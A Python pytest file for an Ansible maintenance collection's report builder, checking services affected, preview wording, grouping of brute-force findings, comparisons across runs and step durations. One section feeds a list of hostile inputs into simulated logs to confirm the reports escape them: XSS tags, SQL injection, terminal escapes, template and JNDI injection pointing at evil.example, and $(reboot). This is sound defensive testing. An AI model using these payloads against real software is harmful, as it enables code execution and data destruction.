# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the report says of records that the modules' own code made, on real files, databases and services."""

from __future__ import annotations

import contextlib
import json
import re
import sqlite3
from datetime import UTC, datetime, timedelta

import pytest

from ansible_collections.ops.maintenance.plugins.module_utils import (
    log_analysis,
    maintenance_mode,
    package_verify,
    security_review,
    sqlite_upkeep,
    sqlite_upkeep_options,
)
from ansible_collections.ops.maintenance.plugins.module_utils.host import Host, Ran
from ansible_collections.ops.maintenance.plugins.module_utils.record import Finding
from ansible_collections.ops.maintenance.plugins.module_utils.security_common import filled
from ansible_collections.ops.maintenance.plugins.plugin_utils import report_html, report_json, report_markdown
from ansible_collections.ops.maintenance.plugins.plugin_utils.report_build import build
from ansible_collections.ops.maintenance.plugins.plugin_utils.report_groups import group_findings
from ansible_collections.ops.maintenance.plugins.plugin_utils.store import Store
from ansible_collections.ops.maintenance.tests.unit.plugins.module_utils.maintained import defaults, service
from ansible_collections.ops.maintenance.tests.unit.plugins.plugin_utils.sample_runs import START, SampleRun

NOW = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
ROLES = {
    "maintenance_mode": "maintenance_mode",
    "serve": "maintenance_mode",
    "leave": "maintenance_mode",
    "sqlite_upkeep": "database_maintenance",
    "log_analysis": "log_rotation",
    "security_review": "security_review",
}


def report(run, earlier=()):
    return build(run.lines, [before.lines for before in earlier], generated=NOW)


def begun(**more):
    """A run of one host, up to its first record."""
    plan = {"services": ["api", "db", "frontend"], "checklist": [], "duties": []}
    return SampleRun(check_mode=more.pop("check_mode", False)).opened().plan("shop", ["web1"], **{**plan, **more})


def tell(run, outcome, **more):
    """Append the record of a module."""
    record = outcome.record()
    return run.record("shop", "web1", f"ops.maintenance.{ROLES.get(record['operation'], 'patching')}", **{**record, **more})


def mode(folder, state, services, check_mode=False):
    given = {"state": state, "run_id": "weekly-1", "state_dir": str(folder / "state"), "settle_seconds": 0.0, "services": services}
    return maintenance_mode.run({**defaults(maintenance_mode.OPTIONS), **given}, check_mode, Host())


@pytest.fixture
def services(tmp_path):
    return [service(tmp_path, "db"), service(tmp_path, "api"), service(tmp_path, "old", active=False)]


# services affected


def test_services_affected_are_those_that_maintenance_mode_stopped_and_started(tmp_path, services):
    """In every real run the report said ``host``: it looked for services where maintenance mode wrote none."""
    run = begun()
    for state in ("entered", "serving", "left"):
        tell(run, mode(tmp_path, state, services))
    made = report(run.outcome("shop", "web1").ended())
    assert made.log.services_affected == ["api", "db"]
    assert "stop: api (stopped for the maintenance) (web1)" in made.log.changes_made
    assert "- **Services affected:** api, db\n" in report_markdown.render(made)


def test_no_service_is_affected_by_a_run_that_stopped_none(tmp_path, services):
    made = report(tell(begun(), mode(tmp_path, "left", services)).outcome("shop", "web1").ended())
    assert made.log.services_affected == []


class Restarting(Host):
    def run(self, argv, **more):  # noqa: ARG002 - as the host's own
        return Ran(list(argv), 0, "active\n", "")


def test_a_service_that_an_update_restarted_is_affected(tmp_path, services):
    run = tell(begun(), mode(tmp_path, "entered", services[:1]))
    restart = package_verify.restart_unit(Restarting(), "ssh.service")
    run.record("shop", "web1", "ops.maintenance.patching", "package_updates", status="changed", actions=[restart.as_dict()])
    assert report(run.outcome("shop", "web1").ended()).log.services_affected == ["db", "ssh"]
    mode(tmp_path, "left", services)


# due and not done, previews


def upkeep(folder, check_mode):
    path = folder / "a.db"
    if not path.exists():
        with contextlib.closing(sqlite3.connect(path)) as connection:
            connection.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, note TEXT)")
            connection.commit()
    spec = {name: option.get("default") for name, option in sqlite_upkeep_options.DATABASE.items()} | {"path": str(path)}
    given = {"databases": [spec], "run_id": "weekly-1", "deadline": 0.0, "state_dir": str(folder / "kept"), "self_test": False}
    return sqlite_upkeep.run({**defaults(sqlite_upkeep_options.OPTIONS), **given}, check_mode, Host())


def activity(made, role):
    return next(item for item in made.activities if item.id == role)


def test_what_was_due_in_a_real_run_and_not_done_is_not_blamed_on_check_mode(tmp_path):
    """The step assesses in check mode; then the snapshot failed, or the application had not worked before."""
    run = tell(begun(), upkeep(tmp_path, True), check_mode=True)
    item = activity(report(run.outcome("shop", "web1", "failed").ended("failed")), "database_maintenance")
    assert (item.state, item.reason) == ("not_done", "sqlite upkeep on web1: due, but not done in this run")


def previewed(tmp_path, services):
    run = begun(check_mode=True, checklist=[{"id": "db", "text": "The database is sound", "evidence": ["database.integrity"]}])
    tell(run, upkeep(tmp_path, True))
    tell(run, mode(tmp_path, "entered", services, True))
    # as the cycle of an older version wrote it: zero seconds, restored
    return run.outcome("shop", "web1", downtime_seconds=0.0, services_restored=True, rollback_required=False).ended()


def test_a_preview_says_what_would_be_done_and_calls_nothing_done(tmp_path, services):
    made = report(previewed(tmp_path, services))
    assert made.title == "Preview of the weekly maintenance of Shop"
    assert made.summary.startswith("A preview, nothing was changed; 1 of 1 host would be maintained; ")
    assert made.notices[0].title == "This is a preview"
    assert (made.log.status, made.log.status_reason) == ("Preview", "nothing was changed")
    assert (made.log.rollback_required, made.log.performed_by) == ("not applicable: this is a preview",) * 2
    assert made.log.services_affected == ["api", "db"]
    assert "rebuild the indexes: " in "\n".join(made.log.changes_made)
    host = made.hosts[0]
    assert (host.outcome, host.downtime_seconds, host.services_restored, host.rollback_required) == ("previewed", None, None, None)
    assert [(item.state, item.ticked) for item in made.checklist] == [("previewed", False)]
    assert activity(made, "database_maintenance").reason == "sqlite upkeep on web1: due; a preview changes nothing"


def test_no_format_words_a_preview_as_maintenance(tmp_path, services):
    made = report(previewed(tmp_path, services))
    for text in (report_html.render(made), report_markdown.render(made)):
        assert "Preview of the weekly maintenance of Shop" in text
        assert "would be" in text
        for claim in (
            "maintained to the end",
            "Success",
            "Actions taken",
            "What was done",
            "Post-maintenance status",
            "Changes made",
            "[x]",
        ):
            assert claim not in text, claim
    assert json.loads(report_json.render(made))["log"]["status"] == "Preview"


def test_a_preview_that_a_host_would_refuse_has_failed(tmp_path, services):
    run = begun(check_mode=True).outcome("shop", "web1", "refused").ended("failed")
    assert report(run).log.status == "Preview failed"


# the same attack, told once


def attacked(folder, *addresses):
    """The records of both reviews of a log with many failed log-ins from each address."""
    lines = []
    for address in addresses:
        for number in range(80):
            moment = (NOW - timedelta(days=1, seconds=number * 5)).isoformat()
            said = {"message": f"Authentication failed for user admin from {address}", "username": "admin", "client_ip": address}
            lines.append(json.dumps({"timestamp": moment, "level": "WARNING", "event": "login_failed", **said}))
    (folder / "app.jsonl").write_text("\n".join(lines) + "\n")

    class At(Host):
        def now(self):
            return NOW

    common = {"state_dir": str(folder / "kept"), "deadline": 0.0, "self_test": False, "run_id": "weekly-1"}
    source = {"name": "app", "paths": [str(folder / "app.jsonl")], "format": "auto", "timezone": "UTC", "silence_hours": 0.0}
    review = {**{name: option.get("default") for name, option in log_analysis.OPTIONS.items()}, **common, "sources": [source]}
    given = {
        "login_sources": [{"name": "app", "paths": [str(folder / "app.jsonl")]}],
        "journal": "false",
        "updates": False,
        "accounts": False,
    }
    return log_analysis.run(review, False, At()), security_review.run({**filled(security_review.OPTIONS, given), **common}, False, At())


IDS = {"logs.auth_failures", "logs.brute_force", "security.brute_force", "security.failed_logins"}


def test_an_attack_that_several_checks_see_is_told_once(tmp_path):
    run = begun()
    for outcome in attacked(tmp_path, "203.0.113.77"):
        tell(run, outcome)
    made = report(run.outcome("shop", "web1").ended())
    assert {f.id for f in made.findings} >= IDS, "each stays a finding of its own"
    heads = [group for group in group_findings(made.findings) if {group.id, *(o.id for o in group.also)} & IDS]
    assert [(group.id, {o.id for o in group.also}) for group in heads] == [("security.brute_force", IDS - {"security.brute_force"})]
    advice = [r for r in made.recommendations if set(r.because.split(", ")) & IDS]
    assert [(set(r.because.split(", ")), r.text.startswith("Block these addresses (firewall")) for r in advice] == [(IDS, True)]
    assert sum("failed" in issue for issue in made.log.issues_encountered) == 1
    assert "1 address failed to log in 10 times or more" in report_markdown.render(made)
    for text in (report_html.render(made), report_markdown.render(made)):
        assert text.count("Block these addresses") == 2, "at the finding and among the recommendations"
        assert all(name in text for name in IDS)


def test_attacks_from_different_addresses_stay_apart(tmp_path):
    run = begun()
    for name, address in (("a", "203.0.113.77"), ("b", "198.51.100.4")):
        (tmp_path / name).mkdir()
        tell(run, attacked(tmp_path / name, address)[0 if name == "a" else 1])
    made = report(run.outcome("shop", "web1").ended())
    heads = [group.id for group in group_findings(made.findings) if group.id in IDS]
    assert sorted(heads) == ["logs.brute_force", "security.brute_force"]


# crafted lines of logs

CRAFTED = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b[2J\x1b]0;owned\x07\u202egnp.exe",
    "'; DROP TABLE runs; DELETE FROM findings WHERE '1'='1",
    "x\n2026-11-20 10:00:00 CRITICAL forged line\n| forged | table |\n# forged heading",
    "{{ lookup('pipe', 'id') }} ${jndi:ldap://evil.example/a} $(reboot) `reboot`",
    '"}\n{"level": "CRITICAL", "message": "forged"}',
    "\x00\udcff w" + "w" * 3000,
]


def crafted_logs(folder):
    """The same texts as messages and account names of an application, of sshd, and as requests to a web server."""
    moment = NOW - timedelta(hours=3)
    stamp, day = moment.isoformat(), moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
    app, auth, web = [], [], []
    for text in CRAFTED:
        bare = text.replace("\n", "\\n").replace('"', "'")
        said = {"timestamp": stamp, "level": "ERROR", "event": "login_failed", "username": text, "client_ip": text}
        app += [json.dumps({**said, "message": f"Authentication failed for {text}"})] * 20
        auth += [f"{stamp} web sshd[7]: Failed password for invalid user {bare} from 192.0.2.5 port 1 ssh2"] * 20
        web += [f'192.0.2.5 - {bare} [{day}] "GET /{bare} HTTP/1.1" 500 1 "-" "{bare}"'] * 20
    for name, lines in (("app.jsonl", app), ("auth.log", auth), ("access.log", web)):
        (folder / name).write_bytes(b"".join(line.encode("utf-8", "surrogateescape") + b"\n" for line in lines))


def reviews(folder):
    """Both reviews of these logs."""

    class At(Host):
        def now(self):
            return NOW

    common = {"state_dir": str(folder / "kept"), "deadline": 0.0, "self_test": False, "run_id": "weekly-1"}
    names = {"app": "app.jsonl", "auth": "auth.log", "web": "access.log"}
    sources = [{"name": name, "paths": [str(folder / file)], "error_limit": 1} for name, file in names.items()]
    review = {**filled(log_analysis.OPTIONS, {"sources": sources}), **common}
    logins = [
        {"name": "app", "paths": [str(folder / "app.jsonl")]},
        {"name": "auth", "paths": [str(folder / "auth.log")], "format": "auth"},
    ]
    given = {"login_sources": logins, "journal": "false", "updates": False}
    return log_analysis.run(review, False, At()), security_review.run({**filled(security_review.OPTIONS, given), **common}, False, At())


def test_crafted_lines_of_logs_are_text_in_every_report_and_in_the_store(tmp_path):
    crafted_logs(tmp_path)
    run = begun()
    for outcome in reviews(tmp_path):
        tell(run, outcome)
    run.outcome("shop", "web1").ended()
    made = report(run)
    told = {f.id: f for f in made.findings}
    assert told["logs.errors"].state != "ok"
    assert told["security.failed_logins"].state != "ok"
    page, text, data = (render(made) for render in (report_html.render, report_markdown.render, report_json.render))
    assert "owned" in page
    assert "DROP TABLE" in page, "what was said is shown, and only shown"
    assert page.count("<script") == 1
    assert "<img" not in page
    for one in (page, text, data):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", one)
    assert not [line for line in text.splitlines() if line.startswith(("| forged", "# forged"))]
    with Store(f"sqlite:///{tmp_path}/store.sqlite") as store:
        store.save_run(run.lines)
        kept = {row["id"] for row in store.findings_of(run.lines[0]["run_id"])}
        assert set(told) <= kept
        assert store.lines_of(run.lines[0]["run_id"]) == run.lines
    assert max(len(json.dumps(line)) for line in run.lines) < 64 * 1024


# an activity that was done and found something


def test_an_activity_that_was_done_says_what_it_found(tmp_path):
    run = tell(begun(), attacked(tmp_path, "203.0.113.77")[1])
    made = report(run.outcome("shop", "web1").ended())
    item = activity(made, "security_review")
    open_ = [f for f in made.findings if f.role.endswith("security_review")]
    assert (item.state, item.ticked) == ("done", True)
    assert {f.state for f in open_} <= {"warning", "unknown"}
    warnings = [f for f in open_ if f.state == "warning"]
    assert len(warnings) >= 3
    assert re.fullmatch(rf"{len(warnings)} warning( and \d+ unknown)? findings", item.attention)
    assert f"- [x] Security review: Done, with {item.attention} " in report_markdown.render(made)
    assert f"Done, with {item.attention}</b>" in report_html.render(made)


# compared with the last look


def looked(week, *records, cadence="weekly", outcome="completed", **more):
    """A run of some week, from operations with the states of their one finding."""
    run = SampleRun(cadence=cadence, start=START + timedelta(days=7 * week)).opened(**more).plan("shop", ["web1"])
    for operation, state in records:
        findings = [] if state is None else [one_finding(f"{operation}.state", state)]
        run.record("shop", "web1", f"ops.maintenance.{operation}", operation, findings=findings)
    return run.outcome("shop", "web1", outcome).ended("completed" if outcome == "completed" else "failed")


def one_finding(id_, state):
    return Finding(id_, state, "thing", "it is so", advice="" if state == "ok" else "Look.").as_dict()


def test_a_finding_known_before_a_refused_run_is_not_new():
    first = looked(0, ("preflight", "ok"), ("security_review", "warning"), ("backup_verification", "critical"))
    refused = looked(1, ("preflight", "critical"), outcome="refused")
    now = looked(2, ("preflight", "ok"), ("security_review", "warning"), ("backup_verification", "ok"))
    made = report(now, [refused, first])
    assert [(f.id, f.change) for f in made.findings] == [("security_review.state", "unchanged")]
    assert [f.id for f in made.fixed] == ["backup_verification.state", "preflight.state"]
    assert made.compared == [refused.run_id, first.run_id]


def test_what_a_narrowed_run_did_not_look_at_is_not_gone():
    first = looked(0, ("security_review", "warning"), ("backup_verification", "critical"), ("log_analysis", "warning"))
    made = report(looked(1, ("log_analysis", None)), [first])
    assert [f.id for f in made.gone] == ["log_analysis.state"], "looked at again, and not reported"
    assert [f.id for f in made.unseen] == ["backup_verification.state", "security_review.state"]
    assert (made.counts["changes"]["gone"], made.counts["changes"]["unseen"], made.fixed) == (1, 2, [])
    for text in (report_html.render(made), report_markdown.render(made)):
        assert "Known from before, not looked at this time" in text


def test_what_nobody_looked_at_before_is_not_called_new():
    made = report(looked(1, ("log_analysis", "ok"), ("security_review", "warning")), [looked(0, ("log_analysis", "ok"))])
    assert [(f.id, f.change) for f in made.findings] == [("security_review.state", "")]


def test_what_a_later_look_did_not_report_was_gone_then_and_is_new_when_it_comes_back():
    first, second = looked(0, ("log_analysis", "warning")), looked(1, ("log_analysis", None))
    assert report(looked(2, ("log_analysis", None)), [second, first]).gone == []
    assert report(looked(2, ("log_analysis", "warning")), [second, first]).findings[0].change == "new"


def test_a_look_that_failed_says_nothing_of_what_it_did_not_come_to():
    first, failed = looked(0, ("security_review", "warning")), looked(1)
    failed.record("shop", "web1", "ops.maintenance.security_review", "security_review", status="failed")
    made = report(looked(2, ("security_review", "warning")), [failed, first])
    assert made.findings[0].change == "unchanged"


# durations


def step(run, role, took, before=0.0):
    """Append a step that ends now and began some time before its records."""
    begin = run.clock - timedelta(seconds=took) - timedelta(seconds=before)
    times = {"started": begin.isoformat(), "finished": run.clock.isoformat()}
    run.add("step", system="shop", host="web1", role=f"ops.maintenance.{role}", tasks=2, **times)


def test_a_budget_that_only_apt_exceeded_is_over():
    run = begun(budgets={"patching": 2700})
    run.clock += timedelta(seconds=5400)  # apt leaves no record
    run.record("shop", "web1", "ops.maintenance.patching", "package_updates", took=7.0, status="changed")
    step(run, "patching", 5407)
    made = report(run.outcome("shop", "web1").ended())
    [took] = made.steps
    assert (took.role, took.longest_seconds, took.state) == ("patching", 5407.0, "over")
    assert made.notices[-1].title != "Over budget" or "patching took" in made.notices[-1].text
    assert any(notice.title == "Over budget" for notice in made.notices)


def test_a_killed_run_counts_the_records_of_the_step_it_was_in():
    run = begun()
    run.record("shop", "web1", "ops.maintenance.preflight", "preflight", took=3.0)
    step(run, "preflight", 3, before=2)
    run.record("shop", "web1", "ops.maintenance.patching", "package_updates", took=60.0)
    assert {s.role: s.longest_seconds for s in report(run).steps} == {"preflight": 5.0, "patching": 60.0}
